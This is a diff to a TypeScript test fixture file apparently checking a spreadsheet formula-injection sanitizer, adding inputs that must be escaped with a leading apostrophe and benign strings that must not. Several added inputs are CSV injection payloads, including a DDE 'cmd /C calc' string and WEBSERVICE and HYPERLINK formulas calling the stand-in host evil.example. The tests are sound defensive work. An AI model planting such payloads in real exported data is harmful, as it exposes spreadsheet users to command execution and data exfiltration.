@@ -108,7 +108,20 @@ export const FORMULAS_INSIDE = [
   ['x\u2028=1+1', "x\u2028'=1+1"],
   ['x\u2029"=1+1"', 'x\u2029"\'=1+1"'],
   [';-2', ";'-2"],
-  ['Monday: home\n- and Tuesday', "Monday: home\n'- and Tuesday"],
+  ['x\n-A1', "x\n'-A1"],
+  ['x\n- A1', "x\n'- A1"],
+  ['x\n- SUM(A1)', "x\n'- SUM(A1)"],
+  ["x\n-cmd|' /C calc'!A0", "x\n'-cmd|' /C calc'!A0"],
+  ["x;- cmd|' /C calc'!A0", "x;'- cmd|' /C calc'!A0"],
+  ['x\n- a&', "x\n'- a&"],
+  ['x\n- a&WEBSERVICE("http://evil.example/")', 'x\n\'- a&WEBSERVICE("http://evil.example/")'],
+  ['x\n- a;HYPERLINK("http://evil.example/")', 'x\n\'- a;HYPERLINK("http://evil.example/")'],
+  ['x\n- [book]sheet!a', "x\n'- [book]sheet!a"],
+  ['x\n-(1+1)', "x\n'-(1+1)"],
+  ['sad ;-(', "sad ;'-("],
+  ['x\n+1 from me', "x\n'+1 from me"],
+  ['x\n- 2 litres', "x\n'- 2 litres"],
+  ['x\n@Ana', "x\n'@Ana"],
 ] as const
 
 export const ORDINARY_TEXTS = [
@@ -138,4 +151,11 @@ export const ORDINARY_TEXTS = [
   'a;"b"; c',
   'x,"=1+1"',
   'home, -2 degrees',
+  'Monday: home\n- and Tuesday',
+  'To bring:\n- milk\n- bread, butter\r\n-jam\n+ tea.',
+  'Lista:\n- pão de açúcar\n- l’eau',
+  'list;\n- milk ',
+  'see you ;-)',
+  ';-) see you;-)',
+  'back soon;-D',
 ] as const
